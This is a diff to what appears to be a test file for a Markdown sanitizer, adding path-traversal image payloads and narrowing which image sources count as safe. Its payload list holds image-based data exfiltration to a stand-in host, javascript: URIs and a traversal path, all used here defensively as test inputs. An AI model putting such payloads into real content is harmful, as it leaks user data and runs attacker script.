@@ -33,6 +33,8 @@ const payloads = [
   '![x](https://evil.example/?q=secret)',
   '![x](//evil.example/a.png)',
   '![x](javascript:alert(1))',
+  '![x](/api/checkout)',
+  '![x](/api/files/../checkout)',
   '![x](data:image/svg+xml;base64,PHN2Zz4=)',
   '![x][i]\n\n[i]: https://evil.example/?q=secret',
   '[![x](https://evil.example/a.png)](javascript:alert(1))',
@@ -71,7 +73,7 @@ const offences = (html: string): readonly string[] =>
       /\son[a-z]+=/i.test(attributes) ||
       (href !== undefined && !/^(?:https?:\/\/|mailto:|#user-content-)/.test(href)) ||
       (href?.startsWith('http') && !(tag.includes('rel="noopener noreferrer"') && tag.includes('target="_blank"'))) ||
-      (src !== undefined && !/^(?:\/(?!\/)|data:image\/(?:png|jpeg|gif|webp|avif);)/.test(src))
+      (src !== undefined && !/^(?:\/api\/files\/|data:image\/(?:png|jpeg|gif|webp|avif);)/.test(src))
     )
   })
 
